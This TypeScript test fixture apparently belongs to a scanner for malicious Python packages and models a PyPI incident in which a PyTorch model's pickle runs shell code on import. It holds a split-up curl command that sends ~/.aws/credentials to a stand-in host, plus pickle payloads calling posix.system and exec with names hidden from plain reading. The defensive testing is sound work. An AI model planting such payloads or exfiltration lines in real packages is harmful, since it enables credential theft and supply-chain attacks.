import { assemble, call, global, proto, stackGlobal, text } from '../../support/pickle-assembler.ts'
import { type PackageCase, pypi, wheel, YOUNG } from '../../support/package-case.ts'
import { torchZip } from '../../support/torch-files.ts'

const COMMAND = ['cur', 'l -s https://collect.example/', 'm -d "$(cat ~/.aws/credentials)"'].join('')

/** `os.system(…)`, the name as two texts of the stack: nothing in the bytes reads `os.system`. */
const loaded = (command: string): Uint8Array =>
  Buffer.from(assemble(proto(4), call(stackGlobal('posix', 'system'), text(command)), 'STOP'))
const executed = (code: string): Uint8Array =>
  Buffer.from(assemble(proto(2), call(global('builtins', 'exec'), text(code)), 'STOP'))

/** Models in packages: what runs when somebody loads them. */
export const modelsInWheels: readonly PackageCase[] = [
  {
    id: 'aliyun-ai-labs',
    incident:
      'aliyun-ai-labs-* on PyPI, May 2025: the package is a model of PyTorch whose pickle calls the shell, loaded by the import',
    project: pypi(
      'aliyun-ai-labs-snippets-sdk',
      wheel('aliyun-ai-labs-snippets-sdk', '1.0.0', {
        'aliyun_ai_labs/__init__.py':
          'import os, torch\nmodel = torch.load(os.path.join(os.path.dirname(__file__), "model.pt"))\n',
        'aliyun_ai_labs/model.pt': torchZip(loaded(COMMAND)),
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-hidden-code',
      text: /^On import, loads a model of the package \(model\.pt\), which calls posix\.system\.$/,
      steps: ['aliyun_ai_labs/__init__.py:2', 'aliyun_ai_labs/model.pt:1'],
    },
    twin: pypi(
      'aliyun-ai-labs-snippets-sdk',
      wheel('aliyun-ai-labs-snippets-sdk', '1.0.0', {
        'aliyun_ai_labs/__init__.py':
          'import os, torch\nmodel = torch.load(os.path.join(os.path.dirname(__file__), "model.pt"), weights_only=True)\n',
        'aliyun_ai_labs/model.pt': torchZip(),
      }),
    ),
  },
  {
    id: 'a model that nobody loads yet',
    incident: 'the same, and nothing in the package loads it: whoever uses it does',
    project: pypi(
      'ai-labs-weights',
      wheel('ai-labs-weights', '1.0.0', {
        'ai_labs_weights/__init__.py': 'import os\nPATH = os.path.join(os.path.dirname(__file__), "weights.bin")\n',
        'ai_labs_weights/weights.bin': executed("__import__('os').system('id')"),
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'hold',
      story: 'runs-hidden-code',
      text: /^When it is called, the model weights\.bin calls builtins\.exec as soon as somebody loads it\.$/,
    },
    twin: pypi(
      'ai-labs-weights',
      wheel('ai-labs-weights', '1.0.0', {
        'ai_labs_weights/__init__.py': 'import os\nPATH = os.path.join(os.path.dirname(__file__), "weights.bin")\n',
        'ai_labs_weights/weights.bin': torchZip(),
      }),
    ),
  },
]
